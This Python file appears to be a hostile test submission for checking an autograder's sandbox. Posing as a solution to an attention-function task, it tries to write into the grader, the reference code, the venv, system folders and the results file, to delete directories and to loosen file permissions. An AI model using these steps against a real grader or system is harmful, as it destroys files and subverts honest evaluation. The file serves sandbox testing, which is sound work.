"""Attacking the grader: write next to the grader, over the worker code, into the submission, the project, the harness's
sandbox folder (which the students' handout zips), the Python install and the venv, and every temporary folder."""

import os
import shutil
import site
import sys

HERE = os.path.dirname(os.path.abspath(sys.modules["wire"].__file__)) if "wire" in sys.modules else "/grader"
PYTHON_DIRS = sorted({sys.prefix, sys.base_prefix, os.path.join(sys.prefix, "bin"), os.path.join(sys.base_prefix, "bin"),
                      *site.getsitepackages(), os.path.dirname(os.path.realpath(sys.executable))})
TARGETS = [f"{HERE}/worker.py", f"{HERE}/wire.py", f"{HERE}/__MARKER__.py", f"{os.getcwd()}/qkv_arithmetic.py", f"{os.getcwd()}/__MARKER__.py",
           f"{os.path.dirname(os.getcwd())}/__MARKER__.py", f"{os.path.dirname(HERE)}/__MARKER__.py",
           "__PROJECT__/autograder/grading.py", "__PROJECT__/reference/qkv_arithmetic.py", "__PROJECT__/__MARKER__.txt",
           "__PROJECT__/autograder/sandbox/__MARKER__.py", "__REAL_PROJECT__/autograder/sandbox/__MARKER__.py",
           "__REAL_PROJECT__/__MARKER__.txt", "__REAL_PROJECT__/.venv/__MARKER__.txt", "__REAL_PROJECT__/.venv/bin/__MARKER__",
           "__SCRATCH__/__MARKER__.txt", "__OUT__", "/__MARKER__.txt", "/usr/__MARKER__.txt", "/etc/__MARKER__.txt",
           "/autograder/__MARKER__.txt", "/autograder/results/results.json", "/tmp/__MARKER__.txt", "/var/tmp/__MARKER__.txt",
           "/dev/shm/__MARKER__.txt", *[f"{d}/__MARKER__.py" for d in PYTHON_DIRS]]


def _attack() -> None:
    done = []
    for path in TARGETS:
        try:
            with open(path, "a") as f:
                f.write("# __MARKER__\n")
            done.append(path)
        except OSError:
            pass
    for path in (HERE, os.getcwd(), "__PROJECT__/reference"):
        try:
            shutil.rmtree(path)
            done.append("rmtree " + path)
        except OSError:
            pass
    for path in (f"{HERE}/worker.py", f"{os.getcwd()}/qkv_arithmetic.py"):
        try:
            os.chmod(path, 0o777)
            done.append("chmod " + path)
        except OSError:
            pass
    print("scratch:", os.environ.get("TMPDIR", "/tmp"))
    print("wrote:", sorted(done))


_attack()


def argmax_attention(Q, K, V):
    _attack()
    return None
